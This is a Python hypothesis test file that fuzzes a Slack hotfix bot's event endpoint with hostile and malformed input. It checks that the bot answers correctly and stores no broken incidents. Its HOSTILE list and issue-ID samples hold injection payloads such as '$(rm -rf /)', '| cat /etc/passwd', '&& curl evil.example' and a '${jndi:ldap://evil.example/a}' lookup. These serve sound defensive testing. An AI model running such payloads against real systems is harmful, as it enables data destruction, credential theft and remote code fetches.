"""Random and hostile input at /slack/events, correctly signed: the bot answers, survives, and stores nothing half-made.

Each test builds ONE bot (the usual `bot`/`driver` fixtures) and runs its hypothesis examples against it from an
inner @given function, so the examples share the bot, its database and the fake Slack, as they would in production.
After every example: the HTTP answer is what Slack needs, nobody is told "Sorry, that failed on our side", the fake
Slack saw no invalid call, the database holds no half-made incident, and the next ordinary request still works.
"""
from __future__ import annotations

import itertools
import json
import logging
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlmodel import select

from bot.domain.declaration import TEXT_MAX, TITLE_MAX
from bot.domain.hotfix import EventKind
from bot.domain.naming import InvalidName, validate_issue_id
from bot.domain.policy import Severity
from bot.domain.timers import TimerKind
from bot.slack.errors import SORRY
from bot.slack.ids import ActionId, BlockId, CallbackId
from bot.store.db import reading
from bot.store.tables import EventRow, HotfixRow, JobRow
from bot.standins import payloads
from tests.support.driver import Answer, Driver, Posted, declaration_state, message_text
from bot.standins.slack import MESSAGE_METHODS

FUZZ = settings(max_examples=200, deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example])

USERS = ("UDEV", "UEM", "ULEAD", "UCTO", "UREV1", "UREV2", "UNOBODY")
PINGS = ("<!channel>", "<!here>", "<!everyone>")
HOSTILE = (
    "<!channel>", "<!here>", "<!everyone>", "<@UCTO>", "<#C0STAKE>", "<https://evil.example|click here>",
    "$(rm -rf /)", "`id`", "; ls -la", "| cat /etc/passwd", "&& curl evil.example", "'\"", "\\", "%s%s%n",
    "${jndi:ldap://evil.example/a}", "{\"type\": \"view_submission\"}", "[1, 2]", "null", "{{7*7}}",
    "--upload-pack=touch /tmp/pwned", "../../etc/passwd", "refs/heads/main", "HEAD~1", "@{-1}",
    "HF-1", "HF-0", "HF-2", "hf-1", "HF1", "1", "HF-999999999", "HF-9999999999", "HF--1", "HF-1.5", "HF-١",
    "\x00", "\r\n", "\t", "\u202e", "\ufeff", "\u200b", "💥🔥", "Ω≈ç√", "İ", "ﬃ",
)
VERBS = ("declare", "DECLARE", "status", "list", "help", "review", "deploy", "stable", "rollback", "merged",
         "retry", "close", "bogus", "")


def hostile_text(max_size: int = 120) -> st.SearchStrategy[str]:
    words = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=12))
    return st.one_of(
        st.text(max_size=max_size),
        st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=max_size),  # control characters
        st.sampled_from(HOSTILE),
        st.lists(words, max_size=8).map(" ".join),
        huge_text(),
    )


def huge_text() -> st.SearchStrategy[str]:
    """Far past every field's limit, yet the request stays under the 1 MiB that HTTP mode reads at all (Slack's
    own payloads are a few KiB; tests/slack/test_oversize.py covers bigger bodies)."""
    return st.builds(lambda unit, times: unit * times,
                     st.sampled_from(["x", "<!channel> ", "é", "🔥", "\x00", " ", "HF-1 ", "&<>"]),
                     st.integers(min_value=2_000, max_value=20_000))


JUNK: st.SearchStrategy[Any] = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), hostile_text(40),
    st.lists(st.one_of(st.integers(), st.text(max_size=5), st.none()), max_size=3),
    st.dictionaries(st.text(max_size=8), st.one_of(st.integers(), st.text(max_size=8), st.none()), max_size=3),
)


# --- what every example must leave behind -----------------------------------------------------------------------
class Watch:
    """What a person would notice after one request: an apology, an invalid Slack call, a broken bot."""

    def __init__(self, driver: Driver, caplog: pytest.LogCaptureFixture) -> None:
        self.driver, self.caplog = driver, caplog
        self._calls = 0
        self._records = 0

    def start(self) -> None:
        self._calls = len(self.driver.slack.calls)
        self._records = len(self.caplog.records)

    def new_calls(self):
        return self.driver.slack.calls[self._calls:]

    def check(self) -> None:
        __tracebackhide__ = True
        apologies = [c for c in self.new_calls() if SORRY in json.dumps(c.args)]
        assert apologies == [], f"the person was told our side failed: {apologies}"
        unhandled = [r for r in self.caplog.records[self._records:]
                     if r.levelno >= logging.ERROR and r.name.startswith("bot")]
        assert unhandled == [], "unhandled error: " + "\n".join(r.getMessage() for r in unhandled)
        pings = [c for c in self.new_calls()
                 if c.method in MESSAGE_METHODS and any(p in t for t in _texts(c.args) for p in PINGS)]
        assert pings == [], f"a ping reached a Slack message unescaped: {pings}"
        assert self.driver.slack.problems == [], "Fake Slack saw invalid calls"
        assert_no_half_made_incident(self.driver)
        assert_still_answers(self.driver)


@pytest.fixture
def watch(driver: Driver, caplog: pytest.LogCaptureFixture) -> Watch:
    caplog.set_level(logging.WARNING)
    return Watch(driver, caplog)


def assert_still_answers(driver: Driver) -> None:
    __tracebackhide__ = True
    probe = driver.command("help", user="UDEV")
    assert probe.status == 200 and probe.json()["text"].startswith("*/hotfix* commands"), probe


def assert_no_half_made_incident(driver: Driver) -> None:
    """Every stored hotfix is whole: a valid declaration, its 'declared' event, and a status message (or its job)."""
    __tracebackhide__ = True
    repos = set(driver.bot.current.rules().repos)
    with reading(driver.bot.engine) as session:  # one snapshot: a status job cannot finish between the reads
        rows = session.exec(select(HotfixRow)).all()
        declared = set(session.exec(select(EventRow.hotfix_id).where(EventRow.kind == EventKind.DECLARED.value)).all())
        posting = set(session.exec(select(JobRow.hotfix_id).where(
            JobRow.queue == "slack", JobRow.kind == "status", JobRow.state.in_(("pending", "running")))).all())
        rows = [row.model_dump() for row in rows]
    for row in rows:
        key = f"HF-{row['id']}"
        assert row["title"].strip() and len(row["title"]) <= TITLE_MAX, (key, row["title"])
        try:
            validate_issue_id(row["issue_id"])
        except InvalidName:
            raise AssertionError(f"{key} stored an invalid issue ID {row['issue_id']!r}") from None
        assert row["severity"] in Severity._value2member_map_, (key, row["severity"])
        assert row["repo"] in repos, (key, row["repo"])
        assert row["impact"].strip() and len(row["impact"]) <= TEXT_MAX, key
        assert row["risk"].strip() and len(row["risk"]) <= TEXT_MAX, key
        assert row["id"] in declared, f"{key} has no 'declared' event"
        assert row["status_ts"] or row["id"] in posting, f"{key} has no status message and none is on its way"


def _texts(value: Any):
    """Every string a message shows: its text and each text object's text (mrkdwn: `<!channel>` pings)."""
    if isinstance(value, dict):
        for key, item in value.items():
            if key == "text" and isinstance(item, str):
                yield item
            else:
                yield from _texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from _texts(item)


def answered_text(answer: Answer) -> str:
    """Everything the person reads in an ephemeral answer to /hotfix."""
    body = answer.json()
    return message_text({"text": body.get("text", ""), "blocks": body.get("blocks", [])})


# --- /hotfix <anything> --------------------------------------------------------------------------------------------
slash_text = st.one_of(
    hostile_text(),
    st.builds(lambda verb, sep, rest: f"{verb}{sep}{rest}", st.sampled_from(VERBS), st.sampled_from([" ", "  ", "\t"]),
              hostile_text()),
)


def test_any_slash_command_text_is_answered_and_breaks_nothing(driver: Driver, watch: Watch) -> None:
    hotfix = driver.declare(user="UDEV")  # something for `status HF-1`, `review HF-1` … to find
    driver.settle()

    @FUZZ
    @given(text=slash_text, user=st.sampled_from(USERS))
    def one(text: str, user: str) -> None:
        watch.start()
        modals = len(driver.slack.calls_to("views.open"))

        answer = driver.command(text, user=user)

        assert answer.status == 200, answer
        verb, _, rest = text.strip().partition(" ")
        if verb.lower() == "declare":
            assert answer.body == "", answer  # the form opens instead, the title prefilled with what was typed
            assert len(driver.slack.calls_to("views.open")) == modals + 1
            form = driver.slack.last("views.open").args["view"]
            title = next(b for b in form["blocks"] if b.get("block_id") == BlockId.TITLE.value)["element"]
            assert title.get("initial_value", "") == rest.strip()[:TITLE_MAX]
        else:
            body = answer.json()
            assert body["response_type"] == "ephemeral", answer
            shown = answered_text(answer)
            assert shown.strip(), answer
            assert SORRY not in shown
            assert not any(p in shown for p in PINGS), shown
        watch.check()

    one()
    driver.settle()
    watch.check()
    assert "HF-1" in driver.status_text(hotfix)
    assert driver.command("status HF-1", user="UDEV").status == 200


# --- the declaration form, filled in by anything ----------------------------------------------------------------
VALID = {"title": "Checkout returns 500", "issue_id": "PROD-501", "severity": "high", "impact": "All card payments fail",
         "risk": "Revenue loss every minute", "repo": "payments"}
_view_ids = itertools.count(1)


def text_element(block: str) -> st.SearchStrategy[Any]:
    return st.one_of(
        st.just(payloads.text_input_state(VALID[block])),
        hostile_text().map(payloads.text_input_state),
        JUNK.map(lambda value: {"type": "plain_text_input", "value": value}),
        st.fixed_dictionaries({"type": st.one_of(st.sampled_from(["static_select", "checkboxes", "number_input",
                                                                  "datepicker"]), hostile_text(20))},
                              optional={"value": JUNK, "selected_option": JUNK, "selected_options": JUNK}),
        JUNK,  # not even an object
    )


def select_element(block: str, known: list[str]) -> st.SearchStrategy[Any]:
    odd_choices = st.sampled_from(["CRITICAL", "High", "urgent", "sev1", "", " high", "payments ", "Payments",
                                   "payments.git", "../payments", "secure"])
    return st.one_of(
        st.just(payloads.select_state(VALID[block])),
        st.sampled_from(known).map(payloads.select_state),
        odd_choices.map(payloads.select_state),
        hostile_text(60).map(payloads.select_state),
        JUNK.map(lambda option: {"type": "static_select", "selected_option": option}),
        JUNK.map(lambda value: {"type": "static_select", "selected_option": {"value": value}}),
        JUNK.map(lambda value: {"type": "plain_text_input", "value": value}),
        JUNK,
    )


def checkbox_element() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.sampled_from([[], [{"value": "yes"}], [{"value": "no"}], [{}], ["yes"], [None]])
        .map(lambda chosen: {"type": "checkboxes", "selected_options": chosen}),
        JUNK.map(lambda chosen: {"type": "checkboxes", "selected_options": chosen}),
        JUNK,
    )


ELEMENTS = {
    "title": text_element("title"), "issue_id": st.one_of(text_element("issue_id"), st.sampled_from(
        ["PROD-1; rm -rf /", "--upload-pack=x", "../../x", "P" * 33, "PRÖD-1", "PROD-1\n", "PROD_1", "A", "a-b-c",
         "PROD-1 ", "HEAD", "PROD-1.lock", "-PROD"]).map(payloads.text_input_state)),
    "severity": select_element("severity", [s.value for s in Severity]),
    "impact": text_element("impact"), "risk": text_element("risk"),
    "repo": select_element("repo", ["payments"]),
    "security": checkbox_element(), "override": checkbox_element(),
}


@st.composite
def declaration_states(draw: st.DrawFn) -> dict[str, Any]:
    """Slack's view.state.values for the declare modal: each block valid, hostile, wrongly shaped or missing."""
    state: dict[str, Any] = declaration_state()
    for block, element in ELEMENTS.items():
        how = draw(st.sampled_from(["valid", "valid", "valid", "fuzzed", "fuzzed", "missing", "other action_id"]))
        if how == "fuzzed":
            state[block] = {block: draw(element)}
        elif how == "missing":
            del state[block]
        elif how == "other action_id":  # an older modal's layout: every element called "value"
            state[block] = {"value": draw(element)}
    for name in draw(st.lists(st.text(max_size=10), max_size=2)):  # blocks this modal never had
        state.setdefault(name, {name: draw(JUNK)})
    return state


def test_any_declaration_form_is_answered_in_the_form_or_declares_a_whole_hotfix(driver: Driver, watch: Watch) -> None:
    @FUZZ
    @given(state=declaration_states(), user=st.sampled_from(USERS))
    def one(state: dict[str, Any], user: str) -> None:
        watch.start()
        view_id = f"VFUZZ{next(_view_ids):06d}"

        answer = driver.post(payloads.view_submission(CallbackId.DECLARE, state, user_id=user, view_id=view_id))

        assert answer.status == 200, answer
        with reading(driver.bot.engine) as session:
            stored = [r.model_dump() for r in session.exec(select(HotfixRow).where(HotfixRow.request_key == view_id))]
        if answer.body:  # refused: the problems are shown under their fields and nothing is stored
            body = answer.json()
            assert body["response_action"] == "errors", answer
            assert body["errors"] and set(body["errors"]) <= {b.value for b in BlockId}, body
            assert all(isinstance(m, str) and m.strip() for m in body["errors"].values()), body
            assert not any(p in answer.body for p in PINGS), body
            assert stored == [], f"a refused form stored {stored}"
        else:  # accepted: the modal closes and exactly one hotfix exists for it
            assert len(stored) == 1, f"an accepted form stored {stored}"
            assert stored[0]["declared_by"] == user
        watch.check()

    one()
    driver.settle()
    watch.check()
    with reading(driver.bot.engine) as session:
        numbers = session.exec(select(HotfixRow.id)).all()
    assert numbers, "no fuzzed form was ever accepted: the examples never reached a declaration"
    for number in numbers:  # every accepted declaration reached the channel
        where = driver.bot.status_messages.where(number)
        assert where, f"HF-{number} has no status message"
        assert message_text(driver.slack.message(*where)).find(f"HF-{number}") >= 0
    ordinary = driver.declare(user="UDEV", issue_id="PROD-777", title="Ordinary declaration after the fuzz")
    assert "Ordinary declaration after the fuzz" in driver.status_text(ordinary)


NOT_AN_OBJECT = st.one_of(st.none(), st.booleans(), st.integers(), st.text(min_size=1, max_size=20),
                          st.lists(st.integers(), min_size=1, max_size=3))


@st.composite
def shapeless_submissions(draw: st.DrawFn) -> tuple[str, dict[str, Any]]:
    """A modal whose state has a block (or the whole state) that is not a JSON object: only a forger sends that."""
    callback = draw(st.sampled_from([CallbackId.DECLARE, CallbackId.REJECT, CallbackId.APPROVE_REVIEW]))
    values: dict[str, Any] = declaration_state() if callback is CallbackId.DECLARE else {}
    block = draw(st.sampled_from({CallbackId.DECLARE: list(ELEMENTS), CallbackId.REJECT: [BlockId.REASON.value],
                                  CallbackId.APPROVE_REVIEW: [BlockId.CHECKLIST.value]}[callback]))
    values[block] = draw(NOT_AN_OBJECT)
    return callback.value, values


def test_a_modal_whose_blocks_are_not_objects_is_answered_without_an_apology(
    driver: Driver, watch: Watch
) -> None:
    """`forms._element` checks the element's type but not its block's: `values["title"] = "x"` raises
    AttributeError, the error handler DMs "Sorry, that failed on our side" and logs an unhandled error."""
    driver.declare(user="UDEV", severity="high")
    driver.settle()

    @settings(FUZZ, max_examples=60)
    @given(submission=shapeless_submissions(), user=st.sampled_from(USERS))
    def one(submission: tuple[str, dict[str, Any]], user: str) -> None:
        watch.start()
        callback, state = submission

        answer = driver.post(payloads.view_submission(callback, state, user_id=user, private_metadata="HF-1"))

        assert answer.status == 200, answer
        # Read as if the block were empty: problems shown in the modal, or (an optional box) the form accepted.
        assert not answer.body or answer.json()["response_action"] == "errors", answer
        watch.check()

    one()


# --- button clicks with any action_id and value -------------------------------------------------------------------
OUR_ACTIONS = [a.value for a in ActionId]
action_ids = st.one_of(
    st.sampled_from(OUR_ACTIONS), st.sampled_from(OUR_ACTIONS), st.sampled_from(OUR_ACTIONS),
    st.sampled_from(OUR_ACTIONS).map(lambda a: a.upper()), st.sampled_from(OUR_ACTIONS).map(lambda a: a + " "),
    st.sampled_from(["", "value", "hotfix", "hotfix_", "hotfix_declare", "approve", "hotfix_approve_all"]),
    hostile_text(60),
)
values = st.one_of(
    st.sampled_from(["HF-1", "HF-2", "HF-3", "hf-2", "2", "HF-0", "HF-999999999", "HF-1|bogus", "HF-2|", "|",
                     "HF-1|review_halfway|x", ""]),
    st.integers(min_value=-10, max_value=10**12).map(lambda n: f"HF-{n}"),
    st.builds(lambda key, kind: f"{key}|{kind}", st.sampled_from(["HF-1", "HF-2", "HF-9", "x"]),
              st.one_of(st.sampled_from([k.value for k in TimerKind]), hostile_text(30))),
    hostile_text(),
)


def test_any_click_is_acknowledged_and_breaks_nothing(driver: Driver, watch: Watch) -> None:
    first = driver.declare(user="UDEV", severity="high")
    driver.settle()  # else the first one's stakeholder line could pass for the second one's status message
    second = driver.declare(user="UDEV", severity="critical", security=True, issue_id="SEC-9", title="Token leak")
    driver.settle()
    shown = {first.key: first, second.key: second}

    @FUZZ
    @given(action_id=action_ids, value=values, user=st.sampled_from(USERS), on=st.sampled_from([first.key, second.key]),
           with_message=st.booleans())
    def one(action_id: str, value: str, user: str, on: str, with_message: bool) -> None:
        watch.start()
        hotfix: Posted = shown[on]
        message = driver.slack.message(hotfix.channel, hotfix.ts) if with_message else None

        answer = driver.post(payloads.block_actions(action_id, value, user_id=user, channel_id=hotfix.channel,
                                                    message_ts=hotfix.ts, message=message,
                                                    response_url=driver.slack.response_url()))

        if action_id in OUR_ACTIONS:
            assert (answer.status, answer.body) == (200, ""), answer
        else:  # Bolt's answer when no listener has this action_id; Slack shows the click as failed, rightly
            assert answer.status == 404, answer
        assert driver.bot.error_replies.wait_until_told()  # refusals are sent just after the answer
        refusals = [c for c in watch.new_calls() if c.method == "chat.postEphemeral"]
        assert all(c["user"] == user and c["channel"] == hotfix.channel for c in refusals), refusals
        watch.check()

    one()
    driver.settle()
    watch.check()
    for hotfix in (first, second):  # the status messages still read as a hotfix, with buttons or closed
        assert hotfix.key in driver.status_text(hotfix)


# --- the other modals: reason and review checklist ------------------------------------------------------------------
@st.composite
def other_submissions(draw: st.DrawFn) -> tuple[str, dict[str, Any], str]:
    callback = draw(st.sampled_from([CallbackId.REJECT, CallbackId.REQUEST_CHANGES, CallbackId.APPROVE_REVIEW]))
    metadata = draw(st.one_of(st.sampled_from(["HF-1", "HF-2", "HF-99", "", "HF-1|x"]), hostile_text()))
    block = BlockId.CHECKLIST if callback is CallbackId.APPROVE_REVIEW else BlockId.REASON
    element = draw(st.one_of(
        hostile_text().map(payloads.text_input_state), checkbox_element(), JUNK,
        st.lists(st.fixed_dictionaries({"value": st.text(max_size=3)}), max_size=12)
        .map(lambda chosen: {"type": "checkboxes", "selected_options": chosen}),
    ))
    state = draw(st.one_of(st.just({block.value: {block.value: element}}), st.just({}),
                           st.just({block.value: {"value": element}})))
    return callback.value, state, metadata


def test_any_reason_or_review_submission_is_answered_and_breaks_nothing(driver: Driver, watch: Watch) -> None:
    driver.declare(user="UDEV", severity="high")
    driver.settle()

    @FUZZ
    @given(submission=other_submissions(), user=st.sampled_from(USERS))
    def one(submission: tuple[str, dict[str, Any], str], user: str) -> None:
        watch.start()
        callback, state, metadata = submission

        answer = driver.post(payloads.view_submission(callback, state, user_id=user, private_metadata=metadata))

        assert answer.status == 200, answer
        if answer.body:
            body = answer.json()
            assert body["response_action"] == "errors", answer
            assert set(body["errors"]) <= {BlockId.REASON.value, BlockId.CHECKLIST.value}, body
            # (Slack shows modal errors as plain text, so an echoed "<!channel>" there reads as typed and pings nobody.)
        watch.check()

    one()
    driver.settle()
    watch.check()
